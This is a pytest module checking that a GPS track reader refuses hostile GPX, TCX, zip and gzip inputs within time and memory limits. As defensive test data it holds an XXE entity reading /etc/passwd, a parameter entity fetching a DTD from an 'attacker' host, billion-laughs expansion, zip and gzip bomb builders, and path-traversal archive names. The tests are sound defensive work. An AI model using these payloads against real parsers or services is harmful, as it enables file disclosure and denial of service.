"""Hostile input: every attack ends in our own error with a clear message, in bounded time
(pytest-timeout guards each test) and bounded memory (tracemalloc peak below a budget)."""

from __future__ import annotations

import gzip
import io
import os
import random
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from imas.track import (
    CorruptFile,
    HostileInput,
    LimitExceeded,
    NoActivity,
    TrackError,
    UnsupportedFormat,
    read,
)
from imas.track.formats.xml import MAX_XML_ATTRIBUTES, MAX_XML_TAGS
from imas.track.reader import MAX_FILE_BYTES
from tests.support.gpx_writer import GpxDocument, GpxTrack, gpx_bytes, synthetic_points

pytestmark = pytest.mark.timeout(60)

# Python-heap budget for refusing any one hostile input (libxml2's own allocations are bounded
# separately by the size, tag-count and depth limits).
MEMORY_BUDGET = 96 * 1024 * 1024
GIB = 1024**3


def refused(data: bytes, error: type[TrackError] = TrackError) -> TrackError:
    """read(data) must raise `error` within the memory budget; returns the error."""
    tracemalloc.start()
    try:
        with pytest.raises(error) as caught:
            read(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < MEMORY_BUDGET, f"peak {peak / 1e6:.0f} MB"
    assert str(caught.value), "the error must say what is wrong"
    return caught.value


# --- XML --------------------------------------------------------------------------------------

PASSWD_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<gpx xmlns="http://www.topografix.com/GPX/1/1"><trk><name>&secret;</name><trkseg>
<trkpt lat="1" lon="2"/></trkseg></trk></gpx>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TrainingCenterDatabase><Activities><Activity Sport="Biking"><Notes>&lol9;</Notes>
</Activity></Activities></TrainingCenterDatabase>"""


def test_external_entity_to_a_local_file_is_refused() -> None:
    error = refused(PASSWD_ENTITY, HostileInput)
    assert "DOCTYPE" in str(error)
    assert "root:" not in str(error)  # nothing of /etc/passwd leaks into the message


def test_billion_laughs_is_refused() -> None:
    refused(BILLION_LAUGHS, HostileInput)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "latin-1"])
def test_a_doctype_in_another_encoding_is_refused_too(encoding: str) -> None:
    text = PASSWD_ENTITY.decode().replace(
        'version="1.0"?>', f'version="1.0" encoding="{encoding}"?>'
    )
    refused(text.encode(encoding), HostileInput)


def test_a_doctype_on_an_unknown_root_is_refused_not_just_unsupported() -> None:
    refused(b'<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml>&x;</kml>', HostileInput)


def test_parameter_entities_alone_are_refused() -> None:
    refused(
        b'<!DOCTYPE gpx [<!ENTITY % p SYSTEM "http://attacker/x.dtd"> %p;]><gpx/>', HostileInput
    )


@pytest.mark.parametrize("where", ["root", "point"])
def test_xml_deeper_than_the_limit(where: str) -> None:
    deep = b"<x>" * 10_000 + b"</x>" * 10_000
    if where == "root":
        data = b'<gpx xmlns="http://www.topografix.com/GPX/1/1">' + deep + b"</gpx>"
    else:
        data = (
            b'<gpx><trk><trkseg><trkpt lat="1" lon="2"><extensions>'
            + deep
            + b"</extensions></trkpt></trkseg></trk></gpx>"
        )
    error = refused(data, LimitExceeded)
    assert "deeper than" in str(error)


def test_too_many_tags() -> None:
    refused(b"<gpx>" + b"<a/>" * (MAX_XML_TAGS + 1) + b"</gpx>", LimitExceeded)


def test_too_many_attributes() -> None:
    # Small in the file, large in libxml2's tree: about 250 bytes each.
    data = b"<gpx>" + b'<a b="" c=""/>' * (MAX_XML_ATTRIBUTES // 2 + 1) + b"</gpx>"
    assert "attributes" in str(refused(data, LimitExceeded))


def test_a_file_over_the_size_cap() -> None:
    data = b"<gpx>" + b" " * MAX_FILE_BYTES + b"</gpx>"
    assert "MB" in str(refused(data, LimitExceeded))


def test_a_huge_text_node_is_refused_by_the_parser_limits() -> None:
    refused(b"<gpx><trk><name>" + b"a" * (11 * 1024 * 1024) + b"</name></trk></gpx>", CorruptFile)


@pytest.mark.parametrize("cut", [10, 100, 1000, -30, -7])
def test_truncated_xml(cut: int) -> None:
    data = gpx_bytes(GpxDocument([GpxTrack([synthetic_points(20)])]))
    refused(data[:cut], TrackError)


@pytest.mark.parametrize(
    "data",
    [
        # declared UTF-8, written in Latin-1
        '<?xml version="1.0" encoding="UTF-8"?><gpx creator="Zürich"/>'.encode("latin-1"),
        # an encoding nobody knows
        b'<?xml version="1.0" encoding="x-klingon"?><gpx/>',
        # declared UTF-16 (no BOM) but written in ASCII
        b'<?xml version="1.0" encoding="UTF-16"?><gpx/>',
        # UTF-16 cut in the middle of a character
        '<?xml version="1.0"?><gpx/>'.encode("utf-16")[:-1],
    ],
)
def test_wrong_encodings(data: bytes) -> None:
    refused(data, TrackError)


@pytest.mark.parametrize(
    "codec", ["rot13", "base64", "hex", "zlib", "idna", "punycode", "cp500", "mbcs", "utf-7"]
)
def test_declared_codecs_that_are_not_document_encodings(codec: str) -> None:
    # Python knows these names, but they are not text encodings of markup (or not ours).
    data = f'<?xml version="1.0" encoding="{codec}"?><gpx><trk/></gpx>'.encode()
    refused(data, TrackError)


# --- archives ---------------------------------------------------------------------------------


def _zeros_deflate(total: int) -> bytes:
    """A raw deflate stream of `total` zero bytes, built in milliseconds: after a full flush
    the compressor starts afresh, so the bytes for each further 1 MiB of zeros are the same
    and can be repeated (RFC 1951 blocks are independent once the window is not referenced)."""
    block = 1 << 20
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(b"\0" * block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert again == first or total <= 2 * block
    repeats = total // block
    return first + again * (repeats - 1) + compressor.flush(zlib.Z_FINISH)


def _zip64(name: bytes, stream: bytes, claimed_size: int, method: int = 8) -> bytes:
    """One-entry zip built by hand, with zip64 sizes so it can claim more than 4 GiB."""
    crc = 0  # never reached: the caps stop decompression long before the CRC check
    extra_local = struct.pack("<HHQQ", 1, 16, claimed_size, len(stream))
    local = (
        struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            45,
            0,
            method,
            0,
            0,
            crc,
            0xFFFFFFFF,
            0xFFFFFFFF,
            len(name),
            len(extra_local),
        )
        + name
        + extra_local
    )
    extra_central = struct.pack("<HHQQ", 1, 16, claimed_size, len(stream))
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            45,
            45,
            0,
            method,
            0,
            0,
            crc,
            0xFFFFFFFF,
            0xFFFFFFFF,
            len(name),
            len(extra_central),
            0,
            0,
            0,
            0,
            0,
        )
        + name
        + extra_central
    )
    offset = len(local) + len(stream)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), offset, 0)
    return local + stream + central + end


def test_a_2_kb_zip_that_claims_10_gb() -> None:
    stream = _zeros_deflate(2 * 1024 * 1024)
    data = _zip64(b"ride.gpx", stream, claimed_size=10 * GIB)
    assert len(data) < 4096
    assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].file_size == 10 * GIB
    assert "expands more than" in str(refused(data, LimitExceeded))


def test_a_zip_that_really_expands_to_10_gb() -> None:
    stream = _zeros_deflate(10 * GIB)
    data = _zip64(b"ride.gpx", stream, claimed_size=10 * GIB)
    refused(data, LimitExceeded)


def test_a_zip_that_lies_small() -> None:
    # Claims 100 bytes, holds 2 MiB of zeros: the stream is measured, not the header.
    stream = _zeros_deflate(2 * 1024 * 1024)
    refused(_zip64(b"ride.gpx", stream, claimed_size=100), TrackError)


def test_a_gzip_bomb() -> None:
    stream = _zeros_deflate(10 * GIB)
    data = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + stream + b"\x00" * 8
    assert "expands more than" in str(refused(data, LimitExceeded))


def test_a_gzip_bomb_that_is_honest_about_nothing_but_many_members() -> None:
    member = gzip.compress(b"\0" * (1 << 20))
    refused(member * 400, LimitExceeded)


def _many_entries_zip(count: int, announce: int | None = None) -> bytes:
    """A zip of `count` empty stored entries, written by hand (fast)."""
    local_parts: list[bytes] = []
    central_parts: list[bytes] = []
    offset = 0
    for i in range(count):
        name = f"{i:06d}".encode()
        local = (
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        )
        central_parts.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
        local_parts.append(local)
        offset += len(local)
    central = b"".join(central_parts)
    shown = count if announce is None else announce
    if shown <= 0xFFFF:
        end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, shown, shown, len(central), offset, 0)
        return b"".join(local_parts) + central + end
    # More than 65,535 entries needs the zip64 end record and its locator (APPNOTE 4.3.14).
    record_at = offset + len(central)
    record = struct.pack(
        "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, shown, shown, len(central), offset
    )
    locator = struct.pack("<IIQI", 0x07064B50, 0, record_at, 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return b"".join(local_parts) + central + record + locator + end


def test_a_zip_with_100000_entries() -> None:
    data = _many_entries_zip(100_000)
    assert len(zipfile.ZipFile(io.BytesIO(data)).infolist()) == 100_000  # a real archive
    assert "entries" in str(refused(data, LimitExceeded))


def test_a_zip_that_hides_its_100000_entries_behind_a_small_count() -> None:
    data = _many_entries_zip(100_000, announce=1)
    refused(data, LimitExceeded)


def test_path_tricks_write_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    workdir = tmp_path / "workdir"
    workdir.mkdir()
    monkeypatch.chdir(workdir)
    gpx = gpx_bytes(GpxDocument([GpxTrack([synthetic_points(5)])]))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("../../x.gpx", "/tmp/abs.gpx", "..\\..\\win.gpx"):
            archive.writestr(zipfile.ZipInfo(name), gpx)
    tracks = read(buffer.getvalue())
    assert len(tracks) == 3
    assert os.listdir(workdir) == []


# --- anything else ----------------------------------------------------------------------------


def test_empty_file() -> None:
    assert "empty" in str(refused(b"", CorruptFile))


@pytest.mark.parametrize("seed", range(20))
def test_random_bytes(seed: int) -> None:
    data = random.Random(seed).randbytes(random.Random(seed + 1000).randint(1, 5000))
    refused(data, TrackError)


def test_random_bytes_are_unsupported_with_a_clear_message() -> None:
    error = refused(b"\x13\x37" + bytes(range(256)) * 4, UnsupportedFormat)
    assert "not FIT, GPX, TCX, gzip or zip" in str(error)


def test_errors_are_track_errors_for_every_check() -> None:
    checks: list[Callable[[], object]] = [
        lambda: read(b"<gpx"),
        lambda: read(b"PK\x03\x04broken"),
        lambda: read(b"\x1f\x8b\x08broken"),
    ]
    for check in checks:
        with pytest.raises(TrackError):
            check()


def test_millions_of_distinct_tag_names_inside_points_stay_in_budget() -> None:
    names = b"".join(b"<t%d/>" % i for i in range(300_000))
    data = b'<gpx><trk><trkseg><trkpt lat="1" lon="2">' + names + b"</trkpt></trkseg></trk></gpx>"
    tracemalloc.start()
    try:
        [track] = read(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(track) == 1
    assert peak < 4 * 1024 * 1024  # without the cache cap: ~24 MB here, growing with the file


def test_a_gpx_of_many_tiny_tracks() -> None:
    one = b'<trk><trkseg><trkpt lat="1" lon="2"/></trkseg></trk>'
    error = refused(b"<gpx>" + one * 200_000 + b"</gpx>", LimitExceeded)
    assert "tracks" in str(error)


def test_a_tcx_of_many_tiny_laps_or_activities() -> None:
    lap = b'<Lap StartTime="2020-01-01T00:00:00Z"/>'
    laps = b'<Activity Sport="Running">' + lap * 200_000 + b"</Activity>"
    refused(_tcx(laps), LimitExceeded)
    activity = b'<Activity Sport="Running">' + lap + b"</Activity>"
    refused(_tcx(activity * 200_000), LimitExceeded)


@pytest.mark.parametrize(
    ("data", "what"),
    [
        # Kept in the tree until the end (tracks and activities are read whole), they meet
        # the cap on what the tree may keep outside points first.
        (b"<gpx>" + b"<trk/>" * 1_000_000 + b"</gpx>", "outside its points"),
        (b"<gpx>" + b"<rte/>" * 1_000_000 + b"</gpx>", "routes"),
        (b"<gpx><trk>" + b"<trkseg/>" * 1_000_000 + b"</trk></gpx>", "segments"),
        (b"<Activity><Lap>" + b"<Track/>" * 1_000_000 + b"</Lap></Activity>", "tracks"),
        ((b'<Activity Sport="Running">' + b"<Lap/>" * 9_000 + b"</Activity>") * 20, "laps"),
        (b"<Activity/>" * 1_000_000, "outside its points"),
    ],
    ids=["trk", "rte", "trkseg", "Track", "laps over activities", "Activity"],
)
def test_a_million_empty_containers_are_refused_at_once(data: bytes, what: str) -> None:
    # Empty, they build nothing, but each costs microseconds: two million <trk/> took 27 s
    # before every one met was counted (the module's timeout bounds the time here).
    if not data.startswith(b"<gpx"):
        data = _tcx(data)
    assert what in str(refused(data, LimitExceeded))


def _tcx(activities: bytes) -> bytes:
    return (
        b'<TrainingCenterDatabase xmlns="http://www.garmin.com/xmlschemas/'
        b'TrainingCenterDatabase/v2"><Activities>' + activities + b"</Activities>"
        b"</TrainingCenterDatabase>"
    )


def test_an_archive_of_files_of_many_tracks(monkeypatch: pytest.MonkeyPatch) -> None:
    # The cap is 10,000 activities per archive; a smaller one shows the mechanism quickly.
    monkeypatch.setattr("imas.track.reader.MAX_TRACKS_PER_ARCHIVE", 50)
    one = b'<trk><trkseg><trkpt lat="1" lon="2"/></trkseg></trk>'
    member = b"<gpx>" + one * 20 + b"</gpx>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(3):
            archive.writestr(f"{i}.gpx", member)
    assert "more than 50 activities" in str(refused(buffer.getvalue(), LimitExceeded))


def test_a_bzip2_zip_bomb_is_refused_before_inflating() -> None:
    # A few hundred bytes of bzip2 inflate to 100 MB in one step inside zipfile.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("ride.gpx", b"\0" * 100_000_000)
    assert len(buffer.getvalue()) < 1000
    assert "only stored or deflated" in str(refused(buffer.getvalue(), NoActivity))
